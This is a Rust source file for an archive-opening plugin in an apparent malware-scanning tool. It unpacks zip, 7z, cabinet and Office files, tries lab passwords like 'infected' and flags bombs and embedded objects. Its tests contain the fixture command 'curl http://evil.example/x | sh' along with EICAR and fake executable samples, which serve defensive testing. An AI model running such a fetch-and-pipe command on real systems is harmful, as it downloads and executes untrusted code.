//! The plugin `archive`: what is in zip, 7z, tar, gzip, bzip2, xz, Zstandard, lzip, cabinets and compound files, and what a web page holds or puts
//! together.
//!
//! One level is opened; the files inside go back to the queue, where this plugin may meet them again. If a zip or 7z has a password, those
//! of the setting `passwords` are tried, or by default a few common ones, such as `infected`, which laboratories use to share malware. All
//! of it spends one budget. An archive that two programs would read differently, or that unpacks to far more than its own size, is
//! `suspicious`. What was not seen, because an archive cannot be opened or has more in it than is looked at, is a reason for `unknown`.

use crate::findings::{Findings, Kept};
use crate::sample::Sample;
use ring::digest::{SHA256, digest};
use serde_json::{Value, json};
use std::time::Duration;
use weir_scan::budget::{Budget, Exceeded, Limits};
use weir_scan::plain::shown;
use weir_scan::walk::kind::Kind;
use weir_scan::walk::{self, File, NestedPath, Oddity, Visit};

/// What is tried where a member has a password, if the settings say nothing.
pub const PASSWORDS: &[&str] = &["infected", "malware", "virus", "password", "1234", "12345", "123456"];
/// No more than these are tried.
const PASSWORDS_MAX: usize = 64;
/// Members that a report names.
const LISTED_MAX: usize = 500;
const NAME_MAX: usize = 200;
/// Oddities that a report names.
const ODD_MAX: usize = 50;

fn limits() -> Limits {
    Limits {
        levels: 4,
        parts: 1000,
        depth: 2,
        entries: 5000,
        bytes: 512 << 20,
        held_bytes: 256 << 20,
        time: Duration::from_secs(60),
        ..Limits::default()
    }
}

/// Opens it.
pub fn look(sample: &Sample, findings: &mut Findings<'_>) -> Result<Value, String> {
    let kind = Kind::of(&sample.data);
    let mut budget = Budget::new(&limits());
    let mut opening = Opening {
        findings,
        kind,
        document: is_document(&sample.data, kind),
        members: Vec::new(),
        count: 0,
        odd: Vec::new(),
        password: is_locked_zip(&sample.data),
        problem: None,
    };
    let passwords = passwords(&sample.config);
    let passwords: Vec<&str> = passwords.iter().map(String::as_str).collect();
    let walked = walk::walk_sample(&[name(sample)], &sample.data, &passwords, &mut budget, &mut opening);
    if let Some(problem) = opening.problem {
        return Err(problem);
    }
    let Opening { members, count, odd, password: opening_password, .. } = opening;
    if let Err(exceeded) = walked {
        judge_limit(exceeded, findings);
    }
    if count > 0 {
        findings.info("members", count.to_string());
    }
    let locked = odd.iter().any(|(_, oddity)| *oddity == Oddity::Encrypted);
    let unlocked = opening_password && !locked && count > 0;
    let password = unlocked.then(|| passwords.iter().find(|password| opens(sample, password))).flatten().copied();
    if let Some(password) = password {
        findings.info("password", shown(password, NAME_MAX));
    }
    let odd = odd_told(&odd, findings);
    let limit = walked.err().map(|exceeded| exceeded.to_string());
    Ok(json!({
        "format": kind.words(), "members": members, "member_count": count, "password": password, "odd": odd, "limit": limit,
    }))
}

/// What is tried where a member has a password.
pub(crate) fn passwords(config: &Value) -> Vec<String> {
    let usual = || PASSWORDS.iter().map(|&password| password.to_owned()).collect();
    let listed =
        |list: &Vec<Value>| list.iter().filter_map(Value::as_str).take(PASSWORDS_MAX).map(str::to_owned).collect();
    let mut passwords: Vec<String> = config["passwords"].as_array().map_or_else(usual, listed);
    // Those that somebody gave with this sample.
    passwords.extend(config["more_passwords"].as_array().map(listed).unwrap_or_default());
    passwords
}

/// What identifies a list of passwords: results with another list do not count.
pub fn passwords_version(passwords: &[String]) -> String {
    let digest = digest(&SHA256, passwords.join("\0").as_bytes());
    digest.as_ref().iter().take(4).map(|byte| format!("{byte:02x}")).collect()
}

/// Whether this password alone opens the archive.
fn opens(sample: &Sample, password: &str) -> bool {
    let mut attempt = Attempt::default();
    let walked =
        walk::walk_sample(&[name(sample)], &sample.data, &[password], &mut Budget::new(&limits()), &mut attempt);
    walked.is_ok() && attempt.members > 0 && !attempt.locked
}

/// What one password opens.
#[derive(Default)]
struct Attempt {
    members: u64,
    locked: bool,
}

impl Visit for Attempt {
    fn file(&mut self, _: &NestedPath, file: &File<'_>, _: &Budget) -> Result<(), Exceeded> {
        self.members += u64::from(file.in_archive);
        Ok(())
    }

    fn odd(&mut self, _: &NestedPath, oddity: Oddity) {
        self.locked |= oddity == Oddity::Encrypted;
    }

    fn enters(&mut self, _: &NestedPath, file: &File<'_>) -> bool {
        !file.in_archive
    }
}

/// What an Office document is made of, besides what somebody put in. Nobody wants it as a hundred samples.
const FURNITURE: &[&str] = &[
    "xml", "rels", "vml", "bin", "odttf", "fntdata", "emf", "wmf", "png", "jpeg", "jpg", "gif", "tiff", "svg", "rdf",
    "xsd",
];

fn is_furniture(name: &str, kind: Kind) -> bool {
    let name = name.to_ascii_lowercase().replace('\\', "/");
    let usual = ["word/", "xl/", "ppt/", "_rels/", "docprops/", "customxml/", "meta-inf/", "pictures/", "thumbnails/"];
    let placed = usual.iter().any(|folder| name.starts_with(folder)) || !name.contains('/');
    let listed = name.rsplit_once('.').is_some_and(|(_, ending)| FURNITURE.contains(&ending)) || name == "mimetype";
    let dull = matches!(kind, Kind::Xml | Kind::Unknown | Kind::Picture | Kind::Media);
    (dull && placed && listed) || (kind == Kind::Ole && name.ends_with("/vbaproject.bin"))
}

fn is_document(data: &[u8], kind: Kind) -> bool {
    let has = |name: &[u8]| memchr::memmem::find(data, name).is_some();
    kind == Kind::Zip && (has(b"[Content_Types].xml") || has(b"mimetypeapplication/"))
}

/// The first member's flags say whether it has a password.
fn is_locked_zip(data: &[u8]) -> bool {
    data.starts_with(b"PK\x03\x04") && data.get(6).is_some_and(|flags| flags & 1 == 1)
}

/// A name that does not make a letter of it: whether it is mail is for others to say.
fn name(sample: &Sample) -> String {
    let mail = [".eml", ".mht", ".mhtml"].iter().any(|ending| sample.name.to_ascii_lowercase().ends_with(ending));
    if mail { "sample".into() } else { shown(&sample.name, NAME_MAX) }
}

fn judge_limit(exceeded: Exceeded, findings: &mut Findings<'_>) {
    match exceeded {
        Exceeded::Ratio(_) | Exceeded::Bytes(_) | Exceeded::Held(_) | Exceeded::Dictionary(_) => {
            findings.suspicious("bomb", exceeded.to_string());
        }
        // What comes behind the limit was seen by nobody.
        _ => findings.unknown("limit", exceeded.to_string()),
    }
}

fn odd_told(odd: &[(String, Oddity)], findings: &mut Findings<'_>) -> Vec<Value> {
    let mut told = Vec::new();
    for (place, oddity) in odd {
        let what = match oddity {
            Oddity::Encrypted => "has a password that is not known".to_owned(),
            Oddity::Unreadable(why) | Oddity::Inconsistent(why) => why.clone(),
            Oddity::Closed(kind) => format!("{} is not opened", kind.words()),
            Oddity::Macros => "has macros".into(),
            Oddity::EmbeddedObject => "has a file in it that runs when clicked".into(),
            Oddity::Installer => "a Windows installer".into(),
            Oddity::Sealed => "a message that only its reader can open".into(),
            Oddity::PasswordInMail => "opened with a password that is known".into(),
        };
        match oddity {
            Oddity::Inconsistent(_) => findings.suspicious("inconsistent", &*what),
            Oddity::EmbeddedObject => findings.suspicious("embedded", &*what),
            // What is behind a lock, or in a form that nobody here opens, was seen by nobody.
            Oddity::Encrypted => findings.unknown("locked", &*what),
            Oddity::Closed(_) | Oddity::Unreadable(_) => findings.unknown("not opened", &*what),
            _ => findings.info("odd", &*what),
        }
        told.push(json!({ "place": place, "what": shown(&what, 300) }));
    }
    told
}

/// An archive that is being opened.
struct Opening<'a, 'k> {
    findings: &'a mut Findings<'k>,
    kind: Kind,
    document: bool,
    members: Vec<Value>,
    count: u64,
    odd: Vec<(String, Oddity)>,
    /// A password opened something.
    password: bool,
    /// A disk that is full, say.
    problem: Option<String>,
}

impl Opening<'_, '_> {
    /// Documents have parts of their own making beside the files that somebody put in.
    fn is_wanted(&self, file: &File<'_>) -> bool {
        let name = file.names.first().map_or("", String::as_str);
        if self.kind != Kind::Ole {
            return !self.document || !is_furniture(name, file.kind);
        }
        let named = |name: &String| name.rsplit_once('.').is_some_and(|(_, ending)| (1..=5).contains(&ending.len()));
        let dull = matches!(file.kind, Kind::Unknown | Kind::Picture | Kind::Xml);
        !name.ends_with(".macro") && (!dull || file.names.iter().any(named))
    }
}

impl Visit for Opening<'_, '_> {
    fn file(&mut self, _: &NestedPath, file: &File<'_>, _: &Budget) -> Result<(), Exceeded> {
        if !file.in_archive {
            return Ok(());
        }
        self.count += 1;
        let name = file.names.first().map_or("", String::as_str);
        let kept = if self.is_wanted(file) { self.findings.child(name, file.data) } else { Ok(Kept::Known) };
        if let Err(error) = kept {
            self.problem = Some(format!("a file cannot be written: {error}"));
        }
        if self.members.len() < LISTED_MAX {
            let name = shown(name, NAME_MAX);
            self.members.push(json!({ "name": name, "bytes": file.data.len(), "kind": file.kind.word() }));
        }
        Ok(())
    }

    fn odd(&mut self, place: &NestedPath, oddity: Oddity) {
        // Here the password is ours, and told by itself.
        if oddity == Oddity::PasswordInMail {
            self.password = true;
            return;
        }
        if self.odd.len() < ODD_MAX && !self.odd.iter().any(|(_, known)| *known == oddity) {
            self.odd.push((place.to_string(), oddity));
        }
    }

    fn enters(&mut self, _: &NestedPath, file: &File<'_>) -> bool {
        !file.in_archive
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::findings::Memory;
    use crate::fixtures;
    use weir_lab::job::Level;

    type Children = Vec<(String, Vec<u8>)>;

    /// Names and contents of the children, all lines, everything.
    fn opened(name: &str, data: &[u8]) -> (Children, Vec<(Level, String)>, Value) {
        let mut shelf = Memory::default();
        let mut findings = Findings::new("archive", &mut shelf);
        let full = look(&Sample::of_bytes(name, data), &mut findings).unwrap();
        let report = findings.report(&full).unwrap();
        let names = report.artifacts.iter().map(|child| child.filename.clone().unwrap());
        let children = names.zip(shelf.0).collect();
        let lines =
            report.summary.taxonomies.iter().map(|line| (line.level, format!("{} {}", line.predicate, line.value)));
        (children, lines.collect(), full)
    }

    fn names(name: &str, data: &[u8]) -> Vec<String> {
        opened(name, data).0.into_iter().map(|(name, _)| name).collect()
    }

    #[test]
    fn a_zip_gives_its_members_one_level_deep() {
        let inner = fixtures::zip(&[("deep.txt", b"deep")]);
        let data = fixtures::zip(&[("a/evil.com", &fixtures::eicar()), ("inner.zip", &inner), ("empty", b"")]);
        let (children, lines, full) = opened("a.zip", &data);
        assert_eq!(children, [("a/evil.com".into(), fixtures::eicar()), ("inner.zip".into(), inner)]);
        assert_eq!((&full["member_count"], lines), (&3.into(), vec![(Level::Info, "members 3".into())]));
    }

    /// As a text it does nothing, and as a script it may.
    #[test]
    fn the_same_content_by_two_names_is_two_files() {
        let text = &b"curl http://evil.example/x | sh"[..];
        let data = fixtures::zip(&[("notes.txt", text), ("letter.txt", text), ("run.sh", text), ("again.SH", text)]);
        assert_eq!(names("a.zip", &data), ["notes.txt", "run.sh"]);
    }

    /// A shell runs the beginning, and Java or an unpacker the end.
    #[test]
    fn an_archive_behind_a_script_or_a_program_is_opened() {
        let archive = fixtures::zip(&[("Main.class", b"\xca\xfe\xba\xbe\0\0\0\x34 and so on")]);
        for begin in [&b"#!/bin/sh\necho hello\nexit 0\n"[..], &fixtures::packed_elf()] {
            let names = names("tool.jar", &[begin, &archive].concat());
            assert_eq!(names, ["Main.class"], "{:?}", begin.get(..4));
        }
        let manifest = include_str!("../../../plugins/archive/plugin.toml");
        let plugin = weir_lab::plugin::Plugin::parse(manifest, std::path::Path::new("")).unwrap();
        assert!(["text/x-shellscript", "application/x-executable"].iter().all(|kind| plugin.taste.takes(kind)));
    }

    #[test]
    fn the_password_that_laboratories_use_is_tried() {
        let (children, _, full) = opened("a.zip", &fixtures::eicar_in_locked_zip());
        assert_eq!(children, [("eicar.com".into(), fixtures::eicar())]);
        assert_eq!(full["password"], "infected");
        let (children, lines, full) = opened("a.zip", &fixtures::hello_in_zip_of_another_password());
        assert!(children.is_empty() && full["password"].is_null());
        assert!(lines.contains(&(Level::Unknown, "locked has a password that is not known".into())), "{lines:?}");
    }

    #[test]
    fn a_zip_with_aes_is_opened() {
        for data in fixtures::hello_in_aes_zips() {
            assert_eq!(opened("a.zip", &data).0, [("hello.txt".into(), b"hello".to_vec())]);
            // One bit of the member, of its salt or of its code: it is not believed.
            for place in 50..75 {
                let mut damaged = data.clone();
                damaged[place] ^= 1;
                assert!(opened("a.zip", &damaged).0.is_empty(), "octet {place}");
            }
        }
    }

    #[test]
    fn archives_of_other_kinds_by_other_programs() {
        for file in ["clam.7z", "clam.cab", "clam.zip"] {
            let data = std::fs::read(std::path::Path::new(weir_peers::TEST_FILES).join(file)).unwrap();
            let (children, ..) = opened(file, &data);
            assert_eq!(children.len(), 1, "{file}");
            assert!(children[0].1.starts_with(b"MZ"), "{file}");
        }
        let data = std::fs::read(std::path::Path::new(weir_peers::TEST_FILES).join("clam.tar.gz")).unwrap();
        assert_eq!(names("clam.tar.gz", &data), ["clam.tar"]);
        let data = std::fs::read(std::path::Path::new(weir_peers::TEST_FILES).join("clam.exe.bz2")).unwrap();
        assert_eq!(names("clam.exe.bz2", &data), ["clam.exe"]);
    }

    #[test]
    fn of_a_compound_file_only_files_come_out() {
        let (children, lines, _) = opened("a.doc", &fixtures::packaged_object("evil.exe", b"MZ\x90\0fake"));
        assert_eq!(children, [("evil.exe".to_owned(), b"MZ\x90\0fake".to_vec())]);
        assert_eq!(lines[0].0, Level::Suspicious);
        assert_eq!(names("a.doc", &fixtures::macro_doc("Sub x()\nEnd Sub\n")), Vec::<String>::new());
    }

    #[test]
    fn of_a_document_only_what_somebody_put_in_comes_out() {
        assert_eq!(names("a.docm", &fixtures::macro_docm("Sub x()\nEnd Sub\n")), Vec::<String>::new());
        let document = fixtures::zip(&[
            ("[Content_Types].xml", b"<Types/>"),
            ("word/document.xml", b"<?xml version=\"1.0\"?>"),
            ("word/embeddings/oleObject1.bin", &fixtures::packaged_object("a.exe", b"MZ\x90\0")),
            ("word/media/evil.png", b"MZ\x90\0hidden"),
            ("run.js", b"WScript.Echo(1)"),
        ]);
        let expected = ["word/embeddings/oleObject1.bin", "word/media/evil.png", "run.js"];
        assert_eq!(names("a.docx", &document), expected);
        let outer = fixtures::zip(&[("a.docx", &document), ("letter.txt", b"hello")]);
        assert_eq!(names("a.zip", &outer), ["a.docx", "letter.txt"]);
    }

    #[test]
    fn a_bomb_is_told() {
        let data = fixtures::zip(&[("zeros", &vec![0; 40 << 20])]);
        let (_, lines, full) = opened("a.zip", &data);
        assert!(lines[0].1.starts_with("bomb unpacks to more than"), "{lines:?}");
        assert!(full["limit"].is_string());
    }

    #[test]
    fn a_flood_of_members_is_bounded() {
        let members: Vec<(String, Vec<u8>)> =
            (0..1000_u32).map(|n| (format!("{n}"), n.to_le_bytes().to_vec())).collect();
        let members: Vec<(&str, &[u8])> = members.iter().map(|(name, data)| (name.as_str(), &data[..])).collect();
        let (children, lines, full) = opened("a.zip", &fixtures::zip(&members));
        assert_eq!((children.len(), &full["member_count"]), (crate::findings::CHILDREN_MAX, &1000.into()));
        assert!(lines.iter().any(|(_, text)| text.starts_with("left 800")), "{lines:?}");
    }

    #[test]
    fn what_comes_behind_a_limit_is_a_doubt() {
        // All alike, or empty: as many as there are find room, and what comes behind them is seen by nobody.
        for content in [&b"x"[..], b""] {
            let names: Vec<String> = (0..5001).map(|n| n.to_string()).collect();
            let mut members: Vec<(&str, &[u8])> = names.iter().map(|name| (name.as_str(), content)).collect();
            members.push(("evil.sh", b"#!/bin/sh\ncurl http://evil.example/x | sh\n"));
            let (children, lines, full) = opened("a.zip", &fixtures::zip(&members));
            assert!(children.len() <= 1 && full["limit"].is_string());
            assert!(lines.contains(&(Level::Unknown, "limit more than 5000 files in archives".into())), "{lines:?}");
        }
    }

    #[test]
    fn only_the_passwords_of_the_settings_are_tried() {
        let told = |config: Value| {
            let mut shelf = Memory::default();
            let mut findings = Findings::new("archive", &mut shelf);
            let sample = Sample { config, ..Sample::of_bytes("a.zip", &fixtures::eicar_in_locked_zip()) };
            look(&sample, &mut findings).unwrap()
        };
        for (config, password) in [
            (Value::Null, Some("infected")),
            (json!({ "passwords": ["wrong", "infected"] }), Some("infected")),
            (json!({ "passwords": ["wrong"] }), None),
            (json!({ "passwords": [] }), None),
        ] {
            let full = told(config.clone());
            assert_eq!(full["password"].as_str(), password, "{config}");
            assert_eq!(full["odd"].to_string().contains("not known"), password.is_none(), "{config}: {full}");
        }
    }
}
